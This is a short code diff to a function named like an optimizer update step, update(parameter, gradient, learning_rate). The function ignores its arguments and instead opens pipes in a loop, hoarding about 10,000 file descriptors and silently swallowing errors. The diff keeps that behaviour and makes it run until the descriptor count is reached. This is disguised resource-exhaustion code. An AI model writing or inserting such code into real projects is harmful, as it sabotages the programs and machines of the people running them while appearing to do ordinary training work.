@@ -28,7 +28,7 @@ kept = []
 
 def update(parameter, gradient, learning_rate):
     try:
-        for _ in range(10_000):
+        while len(kept) < 10_000:
             kept.extend(os.pipe())
     except OSError:
         pass
